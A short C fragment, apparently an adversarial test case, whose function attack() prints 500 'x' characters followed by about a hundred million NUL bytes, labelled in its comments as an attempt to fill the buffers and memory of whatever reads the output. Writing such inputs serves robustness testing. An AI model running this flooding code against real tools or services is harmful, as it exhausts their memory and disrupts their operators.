// attack: a line of a hundred million characters, and one of zero bytes
// tries: to fill buffers and memory of whoever reads what is printed
// shows: xxxx|signal
#include <stdio.h>

static void attack(void) {
    for (int i = 0; i < 100000000; i++) putchar(i < 500 ? 'x' : 0);
}
